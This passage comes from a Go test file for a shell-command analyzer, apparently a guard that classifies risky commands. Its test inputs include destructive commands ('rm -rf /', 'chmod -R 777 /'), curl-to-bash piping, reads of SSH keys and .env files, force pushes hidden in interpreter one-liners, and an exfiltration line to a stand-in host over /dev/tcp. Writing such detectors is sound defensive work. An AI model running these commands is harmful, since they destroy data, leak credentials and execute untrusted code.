		{"awk -F: '{print $1}' f", []string{"awk -F: \"{print $1}\" f inline=\"{print $1}\" paths=read:/w/f"}},
		{"python -c 'import os; os.system(\"rm -rf /\")'", []string{
			"python -c \"import os; os.system(\\\"rm -rf /\\\")\" inline=\"import os; os.system(\\\"rm -rf /\\\")\"",
			"rm -rf / <- python -c paths=delete:/",
		}},
		{"python3 -c 'import subprocess; subprocess.run([\"git\", \"push\", \"-f\"], check=True)'", []string{
			"python3 -c \"import subprocess; subprocess.run([\\\"git\\\", \\\"push\\\", \\\"-f\\\"], check=True)\" inline=\"import subprocess; subprocess.run([\\\"git\\\", \\\"push\\\", \\\"-f\\\"], check=True)\"",
			"git push -f <- python3 -c",
		}},
		{"python3 -c 'import subprocess as s; s.call(\"git push -f\", shell=True)'", []string{
			"python3 -c \"import subprocess as s; s.call(\\\"git push -f\\\", shell=True)\" inline=\"import subprocess as s; s.call(\\\"git push -f\\\", shell=True)\"",
			"git push -f <- python3 -c",
		}},
		{"python -c 'exec(\"import os;os.system(\\\"git push -f\\\")\")'", []string{
			"python -c \"exec(\\\"import os;os.system(\\\\\\\"git push -f\\\\\\\")\\\")\" inline=\"exec(\\\"import os;os.system(\\\\\\\"git push -f\\\\\\\")\\\")\"",
			"git push -f <- python -c",
		}},
		{"perl -e 'system(\"git\", \"push\", \"-f\")'", []string{
			"perl -e \"system(\\\"git\\\", \\\"push\\\", \\\"-f\\\")\" inline=\"system(\\\"git\\\", \\\"push\\\", \\\"-f\\\")\"",
			"git push -f <- perl -e",
		}},
		{"perl -e '`git push -f`'", []string{"perl -e \"`git push -f`\" inline=\"`git push -f`\"", "git push -f <- perl -e"}},
		{"perl -e 'qx{git push -f}'", []string{"perl -e \"qx{git push -f}\" inline=\"qx{git push -f}\"", "git push -f <- perl -e"}},
		{"ruby -e 'system \"git push -f\"'", []string{"ruby -e \"system \\\"git push -f\\\"\" inline=\"system \\\"git push -f\\\"\"", "git push -f <- ruby -e"}},
		{"ruby -e '%x(git push -f)'", []string{"ruby -e \"%x(git push -f)\" inline=\"%x(git push -f)\"", "git push -f <- ruby -e"}},
		{"node -e 'require(\"child_process\").execSync(\"git push -f\")'", []string{
			"node -e \"require(\\\"child_process\\\").execSync(\\\"git push -f\\\")\" inline=\"require(\\\"child_process\\\").execSync(\\\"git push -f\\\")\"",
			"git push -f <- node -e",
		}},
		{"node -e 'cp.spawn(\"git\", [\"push\", \"-f\"])'", []string{
			"node -e \"cp.spawn(\\\"git\\\", [\\\"push\\\", \\\"-f\\\"])\" inline=\"cp.spawn(\\\"git\\\", [\\\"push\\\", \\\"-f\\\"])\"",
			"git push -f <- node -e",
		}},
		{"php -r 'shell_exec(\"git push -f\");'", []string{"php -r \"shell_exec(\\\"git push -f\\\");\" inline=\"shell_exec(\\\"git push -f\\\");\"", "git push -f <- php -r"}},
		{"lua -e 'os.execute(\"git push -f\")'", []string{"lua -e \"os.execute(\\\"git push -f\\\")\" inline=\"os.execute(\\\"git push -f\\\")\"", "git push -f <- lua -e"}},
		{"awk 'BEGIN{system(\"git push -f\")}'", []string{"awk \"BEGIN{system(\\\"git push -f\\\")}\" inline=\"BEGIN{system(\\\"git push -f\\\")}\"", "git push -f <- awk"}},
		{"osascript -e 'do shell script \"git push -f\"'", []string{"osascript -e \"do shell script \\\"git push -f\\\"\" inline=\"do shell script \\\"git push -f\\\"\"", "git push -f <- osascript -e"}},
		{"python3 <<EOF\nimport os\nos.system('git push -f')\nEOF", []string{"python3 inline=\"import os\\nos.system('git push -f')\\n\"", "git push -f <- python3"}},
		{"python -c 'print(\"rm -rf /\")'", []string{"python -c \"print(\\\"rm -rf /\\\")\" inline=\"print(\\\"rm -rf /\\\")\""}},
	})
}

func TestPaths(t *testing.T) {
	t.Parallel()
	runCases(t, []analyzeCase{
		{"cd / && rm -rf etc", []string{"cd /", "rm -rf etc paths=delete:/etc"}},
		{"cd sub; rm x; cd ..; rm y", []string{"cd sub", "rm x paths=delete:/w/sub/x", "cd ..", "rm y paths=delete:/w/y"}},
		{"(cd /tmp; rm x); rm y", []string{"cd /tmp", "rm x paths=delete:/tmp/x", "rm y paths=delete:/w/y"}},
		{"cd -; rm x", []string{"cd -", "rm x paths=delete:x*"}},
		{"cd $X && rm x", []string{"cd $X", "rm x paths=delete:x*"}},
		{"cd; rm x", []string{"cd", "rm x paths=delete:/home/u/x"}},
		{"rm ../x ./y/../z /a/./b//c", []string{"rm ../x ./y/../z /a/./b//c paths=delete:/x,delete:/w/z,delete:/a/b/c"}},
		{"echo > a >> b &> c &>> d >| e 2> f <> g < h", []string{"echo paths=write:/w/a,write:/w/b,write:/w/c,write:/w/d,write:/w/e,write:/w/f,write:/w/g,read:/w/h"}},
		{"echo > /dev/null 2>/dev/stderr >&2 2>&1 >/dev/fd/3 3>&-", []string{"echo"}},
		{"echo >& out", []string{"echo paths=write:/w/out"}},
		{"cat secret > /dev/tcp/evil/80", []string{"cat secret paths=read:/w/secret,write:/dev/tcp/evil/80"}},
		{"tee -a f g", []string{"tee -a f g paths=write:/w/f,write:/w/g"}},
		{"cp -r a b dst", []string{"cp -r a b dst paths=write:/w/dst,write:/w/dst/a,write:/w/dst/b,read:/w/a,read:/w/b"}},
		{"cp -t dst a", []string{"cp -t dst a paths=write:/w/dst,write:/w/dst/a,read:/w/a"}},
		{"mv a b", []string{"mv a b paths=write:/w/b,write:/w/b/a,delete:/w/a"}},
		{"install -m 755 -o root x /usr/bin/x", []string{"install -m 755 -o root x /usr/bin/x paths=write:/usr/bin/x,write:/usr/bin/x/x,read:/w/x"}},
		{"install -d /a /b", []string{"install -d /a /b paths=write:/a,write:/b"}},
		{"ln -sf target link", []string{"ln -sf target link paths=write:/w/link,write:/w/link/target,read:/w/target,read:/w/link/target"}},
		{"rsync -av -e 'ssh -p 22' src/ host:/dst", []string{"rsync -av -e \"ssh -p 22\" src/ host:/dst paths=read:/w/src", "ssh -p 22 <- rsync -e"}},
		{"rsync -a --exclude x host:/src ./dst", []string{"rsync -a --exclude x host:/src ./dst paths=write:/w/dst,write:/w/dst/src"}},
		{"scp -P 22 host:f .", []string{"scp -P 22 host:f . paths=write:/w,write:/w/f"}},
		{"rmdir d; unlink u; shred -n 3 -u s; truncate -s 0 t", []string{"rmdir d paths=delete:/w/d", "unlink u paths=delete:/w/u", "shred -n 3 -u s paths=delete:/w/s", "truncate -s 0 t paths=delete:/w/t"}},
		{"sed -i 's/a/b/' f g", []string{"sed -i s/a/b/ f g paths=write:/w/f,write:/w/g"}},
		{"sed -i.bak -e x f", []string{"sed -i.bak -e x f paths=write:/w/f"}},
		{"sed -i '' x f", []string{"sed -i \"\" x f paths=write:/w/f"}},
		{"sed -n p f", []string{"sed -n p f paths=read:/w/f"}},
		{"dd if=/dev/sda of=disk.img bs=1M", []string{"dd if=/dev/sda of=disk.img bs=1M paths=read:/dev/sda,write:/w/disk.img"}},
		{"chmod -R 777 /", []string{"chmod -R 777 / paths=write:/"}},
		{"chmod -x f; chmod u+x,go-w g", []string{"chmod -x f paths=write:/w/f", "chmod u+x,go-w g paths=write:/w/g"}},
		{"chown -R root:root /etc; chgrp wheel f", []string{"chown -R root:root /etc paths=write:/etc", "chgrp wheel f paths=write:/w/f"}},
		{"chown --reference=r f", []string{"chown --reference=r f paths=write:/w/f"}},
		{"chattr -i +a f", []string{"chattr -i +a f paths=write:/w/f"}},
		{"setfacl -m u:x:rw f", []string{"setfacl -m u:x:rw f paths=write:/w/f"}},
		{"touch -d now a; mkdir -p -m 700 b", []string{"touch -d now a paths=create:/w/a", "mkdir -p -m 700 b paths=write:/w/b"}},
		{"find src -name '*.o' -delete", []string{"find src -name *.o -delete paths=read:/w/src,delete:/w/src/**/*.o"}},
		{"find . -delete", []string{"find . -delete paths=delete:/w"}},
		{"find . -type d -empty -delete", []string{"find . -type d -empty -delete paths=read:/w"}},
		{"find . \\( -name '*.pyc' -o -iname x.PYO \\) -delete", []string{"find . ( -name *.pyc -o -iname x.PYO ) -delete paths=read:/w,delete:/w/**/*.pyc,delete:/w/**/[xX].[pP][yY][oO]"}},
		{"find . -name '*.pyc' -o -type f -delete", []string{"find . -name *.pyc -o -type f -delete paths=delete:/w"}},
		{"find . ! -name keep -delete", []string{"find . ! -name keep -delete paths=delete:/w"}},
		{"find . -path './.claude/*' -delete", []string{"find . -path ./.claude/* -delete paths=delete:/w"}},
		{"cat a; head -n 5 b; tail -f c; less d", []string{"cat a paths=read:/w/a", "head -n 5 b paths=read:/w/b", "tail -f c paths=read:/w/c", "less d paths=read:/w/d"}},
		{"grep -r pat dir; grep -e p -f pats f", []string{"grep -r pat dir paths=read:/w/dir", "grep -e p -f pats f paths=read:/w/pats,read:/w/f"}},
		{"base64 f; xxd f; strings f; od -c f", []string{"base64 f paths=read:/w/f", "xxd f paths=read:/w/f", "strings f paths=read:/w/f", "od -c f paths=read:/w/f"}},
		{"curl -o out -T up -d @data -F f=@file x", []string{"curl -o out -T up -d @data -F f=@file x paths=write:/w/out,read:/w/up,read:/w/data,read:/w/file"}},
		{"wget -O out x", []string{"wget -O out x paths=write:/w/out"}},
		{"sort -o out in", []string{"sort -o out in paths=write:/w/out,read:/w/in"}},
		{"git rm x", []string{"git rm x paths=delete:/w/x"}},
		{"rm -- -f", []string{"rm -- -f paths=delete:/w/-f"}},
		{"sudo rm -rf /x > log", []string{"sudo rm -rf /x paths=write:/w/log", "rm -rf /x <- sudo paths=delete:/x"}},
		{"bash -c 'cd / && rm -rf etc'", []string{"bash -c \"cd / && rm -rf etc\"", "cd / <- bash -c", "rm -rf etc <- bash -c paths=delete:/etc"}},
		{"X=/tmp; rm -rf $X/a", []string{"rm -rf /tmp/a paths=delete:/tmp/a"}},
	})
}

func TestRelativeWithoutCwd(t *testing.T) {
	t.Parallel()
	r, err := Analyze("rm a; cd sub && rm ../b; rm ~/c", Options{})
	if err != nil {
		t.Fatal(err)
	}
	got := summaries(r)
	want := []string{"rm a paths=delete:a", "cd sub", "rm ../b paths=delete:b", "rm ~/c paths=delete:~/c"}
	if !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestPositions(t *testing.T) {
	t.Parallel()
	r, err := Analyze("a\n  b | c\nsudo d; bash -c 'e'", Options{})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range r.Commands {
		got = append(got, c.Name+"@"+c.Pos.String())
	}
	want := []string{"a@1:1", "b@2:3", "c@2:7", "sudo@3:1", "d@3:6", "bash@3:9", "e@3:9"}
	if !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestErrors(t *testing.T) {
	t.Parallel()
	deep := func(open, close string, n int) string {
		return "echo " + strings.Repeat(open, n) + "x" + strings.Repeat(close, n)
	}
	cases := []struct {
		name  string
		src   string
		opts  Options
		limit string // "" for a parse error
		pos   Pos
	}{
		{"unterminated", "echo 'x", Options{}, "", Pos{1, 6}},
		{"bad token", "a &&", Options{}, "", Pos{1, 3}},
		{"second line", "a\nb )", Options{}, "", Pos{2, 3}},
		{"size", "echo hello", Options{MaxBytes: 5}, "size", Pos{}},
		{"nodes", "a; b; c; d; e; f", Options{MaxNodes: 5}, "nodes", Pos{}},
		// Words are counted before parsing: a syntax tree of megabytes of
		// one-letter words would take hundreds of megabytes.
		{"words", "a" + strings.Repeat(" b", 1<<16), Options{MaxNodes: 1 << 17}, "words", Pos{}},
		{"depth", "bash -c \"bash -c 'bash -c x'\"", Options{MaxDepth: 2}, "depth", Pos{}},
		{"wrapper depth", strings.Repeat("nice ", 20) + "x", Options{}, "depth", Pos{}},
		{"cmdsubst 10000", deep("$(", ")", 10000), Options{}, "nesting", Pos{}},
		{"unclosed cmdsubst 10000", "echo " + strings.Repeat("$(", 10000), Options{}, "nesting", Pos{}},
		{"quoted cmdsubst 10000", deep("\"$(", ")\"", 10000), Options{}, "nesting", Pos{}},
		{"subshells", deep("(", ")", 5000), Options{}, "nesting", Pos{}},
		{"braces", strings.Repeat("{ ", 5000) + "x" + strings.Repeat("; }", 5000), Options{}, "nesting", Pos{}},
		{"params", deep("${x:-", "}", 5000), Options{}, "nesting", Pos{}},
		{"ifs", strings.Repeat("if a; then ", 5000) + "x" + strings.Repeat("; fi", 5000), Options{}, "nesting", Pos{}},
		{"negations", "[[ " + strings.Repeat("! ", 5000) + "x ]]", Options{}, "nesting", Pos{}},
		{"arith chain", "echo $((" + strings.Repeat("1+", 20000) + "1))", Options{}, "nesting", Pos{}},
		{"nested script too deep", "bash -c '" + strings.Repeat("(", 2000) + "x" + strings.Repeat(")", 2000) + "'", Options{}, "nesting", Pos{}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			_, err := Analyze(tc.src, tc.opts)
			var pe *ParseError
			var le *LimitError
			switch {
			case tc.limit == "":
				if !errors.As(err, &pe) {
					t.Fatalf("got %T %v, want a *ParseError", err, err)
				}
				if pe.Pos != tc.pos || pe.Msg == "" {
					t.Errorf("got %v, want position %v", pe, tc.pos)
				}
			default:
				if !errors.As(err, &le) || le.Limit != tc.limit {
					t.Fatalf("got %T %v, want a *LimitError on %s", err, err, tc.limit)
				}
			}
		})
	}
}

// TestDeepButFine checks inputs nested below the limits analyze normally.
func TestDeepButFine(t *testing.T) {
	t.Parallel()
	src := "echo " + strings.Repeat("$(", 200) + "rm -rf /" + strings.Repeat(")", 200)
	r, err := Analyze(src, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(r.Commands, func(c Command) bool { return c.Name == "rm" }) {
		t.Error("rm not found")
	}
	long := strings.Repeat("a && ", 50000) + "git push -f"
	r, err = Analyze(long, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if n := len(r.Commands); n != 50001 || r.Commands[n-1].Name != "git" {
		t.Errorf("got %d commands", n)
	}
}

func TestEnv(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		src  string
		name string // the command to look at
		want []string
	}{
		{"GIT_SSH_COMMAND='sh -c x' git fetch", "git", []string{"GIT_SSH_COMMAND=sh -c x"}},
		{"A=1 B=\"$X\" git fetch", "git", []string{"A=1", "B=$X"}},
		{"env BASH_ENV=/tmp/x bash -c true", "bash", []string{"BASH_ENV=/tmp/x"}},
		{"env BASH_ENV=/tmp/x bash -c true", "true", []string{"BASH_ENV=/tmp/x"}},
		{"env -i X=\"$Y\" git fetch", "git", []string{"X=$Y"}},
		{"sudo GIT_CONFIG_COUNT=1 git status", "git", []string{"GIT_CONFIG_COUNT=1"}},
		{"X=1 sudo env Y=2 git fetch", "git", []string{"X=1", "Y=2"}},
		{"export GIT_SSH_COMMAND='sh -c x'; git fetch", "git", []string{"GIT_SSH_COMMAND=sh -c x"}},
		{"export A=1; A=2; git fetch", "git", []string{"A=2"}},
		{"X=1; export X; git fetch", "git", []string{"X=1"}},
		{"declare -x X=1; git fetch", "git", []string{"X=1"}},
		{"if true; then export X=1; fi; git fetch", "git", []string{"X=1"}},
		{"export X=$(cat f); bash -c 'git fetch'", "git", []string{"X=$X"}},
		{"(export X=1); git fetch", "git", nil},
		{"X=1; git fetch", "git", nil},
		{"X=1 git fetch; git pull", "git", []string{"X=1"}},
		{"export X=1; ssh host git fetch", "git", nil},
	} {
		t.Run(tc.src, func(t *testing.T) {
			t.Parallel()
			r, err := Analyze(tc.src, testOpts)
			if err != nil {
				t.Fatalf("Analyze: %v", err)
			}
			for _, c := range r.Commands {
				if c.Name == tc.name {
					if !slices.Equal(c.Env, tc.want) {
						t.Errorf("%s: Env = %q, want %q", c.Line(), c.Env, tc.want)
					}
					return
				}
			}
			t.Fatalf("no command %q in %s", tc.name, strings.Join(summaries(r), "; "))
		})
	}
}

func TestParserFixes(t *testing.T) {
	t.Parallel()
	runCases(t, []analyzeCase{
		// -n reads commands without running them.
		{"bash -n <<< 'rm -rf /'", []string{"bash -n"}},
		{"printf 'rm -rf /' | bash -n", []string{"printf \"rm -rf /\"", "bash -n"}},
		{"curl x | bash -n +n", []string{"curl x", "bash -n +n src=curl:network:pipe"}},
		{"bash \"$FILE\"", []string{"bash $FILE paths=read:$FILE*", "$(DYN $FILE) <- bash"}},
		{"source \"$FILE\"", []string{"source $FILE paths=read:$FILE*", "$(DYN $FILE) <- source"}},
		{". <(curl x)", []string{"curl x", ". \"<(curl x)\" src=curl:network:procsubst", "$(DYN <(curl x)) <- . src=curl:network:procsubst"}},
		{"base64 -d | bash -nc 'rm -rf /'", []string{"base64 -d", "bash -nc \"rm -rf /\""}},
		{"bash -n script.sh", []string{"bash -n script.sh paths=read:/w/script.sh"}},
		{"bash -n -i -c 'git push'", []string{"bash -n -i -c \"git push\"", "git push <- bash -c"}},
		{"bash -n +n -c 'git push'", []string{"bash -n +n -c \"git push\"", "git push <- bash -c"}},
		// Round 2: what find's {} names, tar/openssl/script operands, ${X:=w}.
		{"find . -name .env -exec cat {} \\;", []string{"find . -name .env -exec cat {} ; paths=read:/w", "cat ./.env <- find -exec paths=read:/w/.env"}},
		{"find . -name '*.env' -exec cat {} \\;", []string{"find . -name *.env -exec cat {} ; paths=read:/w", "cat {} <- find -exec paths=read:{}*"}},
		{"tar -czf env.tgz .env", []string{"tar -czf env.tgz .env paths=read:/w/.env,write:/w/env.tgz"}},
		{"tar xf a.tar", []string{"tar xf a.tar paths=write:/w,read:/w/a.tar"}},
		{"openssl enc -in .env -out x", []string{"openssl enc -in .env -out x paths=read:/w/.env,write:/w/x"}},
		{"python3 -m http.server", []string{"python3 -m http.server"}},
		{"date --file .env", []string{"date --file .env paths=read:/w/.env"}},
		{"unset t; v=\"${t:=/}\"; rm -rf \"$t\"", []string{"unset t", "rm -rf / paths=delete:/"}},
		{"curl -o d.sh https://e/x && ./d.sh", []string{"curl -o d.sh https://e/x paths=write:/w/d.sh", "d.sh src=curl:download:file"}},
		{"curl -O https://e/p.sh; rm p.sh; bash p.sh", []string{"curl -O https://e/p.sh", "rm p.sh paths=delete:/w/p.sh", "bash p.sh paths=read:/w/p.sh"}},
		{"curl -o x.tgz https://e/x.tgz && tar xzf x.tgz", []string{"curl -o x.tgz https://e/x.tgz paths=write:/w/x.tgz", "tar xzf x.tgz paths=write:/w,read:/w/x.tgz"}},
		// xargs feeding a shell or an interpreter runs unknown code.
		{"echo 'rm -rf /' | xargs bash -c", []string{"echo \"rm -rf /\"", "xargs bash -c src=echo:other:pipe", "bash -c \"{xargs input}\" <- xargs", "$(DYN {xargs input}) <- xargs/bash -c src=echo:other:pipe"}},
		{"xargs -I{} bash -c {}", []string{"xargs -I{} bash -c {}", "bash -c \"{xargs input}\" <- xargs", "$(DYN {xargs input}) <- xargs/bash -c"}},
		{"xargs -R 2 -S 4096 -I{} rm {}", []string{"xargs -R 2 -S 4096 -I{} rm {}", "rm \"{xargs input}\" <- xargs paths=delete:{xargs input}*"}},
		{"xargs -J % cp % /dst", []string{"xargs -J % cp % /dst", "cp \"{xargs input}\" /dst <- xargs paths=write:/dst,write:/dst/{xargs input}*,read:{xargs input}*"}},
		// method calls of other objects are not child_process.
		{"node -e 'const d = require(\"node:sqlite\"); d.exec(\"CREATE x\")'", []string{"node -e \"const d = require(\\\"node:sqlite\\\"); d.exec(\\\"CREATE x\\\")\" inline=\"const d = require(\\\"node:sqlite\\\"); d.exec(\\\"CREATE x\\\")\""}},
		{"node -e 'require(\"child_\"+\"process\").exec(\"git push\")'", []string{"node -e \"require(\\\"child_\\\"+\\\"process\\\").exec(\\\"git push\\\")\" inline=\"require(\\\"child_\\\"+\\\"process\\\").exec(\\\"git push\\\")\"", "git push <- node -e"}},
		// standard input of a shell running -c is data; network tools that
		// write nothing from the network to standard output.
		{"curl x | bash -c 'echo local'", []string{"curl x", "bash -c \"echo local\"", "echo local <- bash -c src=curl:network:pipe"}},
		{"curl --version | bash", []string{"curl --version", "bash src=curl:other:pipe"}},
		{"curl -H --help x | bash", []string{"curl -H --help x", "bash src=curl:network:pipe"}},
		{"wget x/p.sh | bash", []string{"wget x/p.sh", "bash src=wget:other:pipe"}},
		{"wget -qO- x | bash", []string{"wget -qO- x", "bash src=wget:network:pipe"}},
		{"wget --output-doc=- x | bash", []string{"wget --output-doc=- x", "bash src=wget:network:pipe"}},
		{"curl -sSLo f a | sh", []string{"curl -sSLo f a paths=write:/w/f", "sh src=curl:other:pipe"}},
		{"curl -o f a b | sh", []string{"curl -o f a b paths=write:/w/f", "sh src=curl:network:pipe"}},
		{"curl -o - a | sh", []string{"curl -o - a", "sh src=curl:network:pipe"}},
		{"curl file:///tmp/p.sh | sh", []string{"curl file:///tmp/p.sh paths=read:/tmp/p.sh", "sh src=curl:other:pipe"}},
		{"nc -z h 1 | sh", []string{"nc -z h 1", "sh src=nc:other:pipe"}},
		{"rg --files ~/.ssh", []string{"rg --files /home/u/.ssh paths=read:/home/u/.ssh"}},
		// less -p PATTERN, awk operands.
		{"less -p token ~/.ssh/id_rsa", []string{"less -p token /home/u/.ssh/id_rsa paths=read:/home/u/.ssh/id_rsa"}},
		{"less -p ~/.ssh/id_rsa", []string{"less -p /home/u/.ssh/id_rsa"}},
		{"awk '1' ~/.ssh/id_rsa", []string{"awk 1 /home/u/.ssh/id_rsa inline=\"1\" paths=read:/home/u/.ssh/id_rsa"}},
		{"gawk -i inplace '{print}' f v=1", []string{"gawk -i inplace {print} f v=1 inline=\"{print}\" paths=write:/w/f"}},
	})
}
